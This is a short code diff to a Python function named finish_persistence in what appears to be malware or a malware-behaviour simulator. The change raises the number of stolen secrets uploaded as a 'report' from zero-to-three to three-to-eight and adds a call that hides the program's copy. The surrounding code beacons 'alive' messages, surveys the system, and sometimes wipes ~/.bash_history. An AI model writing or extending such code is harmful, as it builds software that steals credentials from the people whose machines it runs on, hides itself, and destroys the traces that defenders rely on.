@@ -72,11 +72,11 @@ def finish_persistence(path):
     """The copy reports, the system is surveyed, and some of the surroundings are taken along."""
     if R.random() < 0.5:
         survey()
-    for _ in range(R.randrange(2, 7)):
+    for secret in pick(secrets(), 3, 8):
         exchange(b"alive " + noise(24).encode())
         pause(1, 15)
-    for secret in pick(secrets(), 0, 3):
         upload(stream(b"wire", read(secret)), "report")
+    hide_copy()
     write(f"{os.path.dirname(path)}/state", R.randbytes(64), 0o600)
     if R.random() < 0.4:
         write(home(".bash_history"), b"")
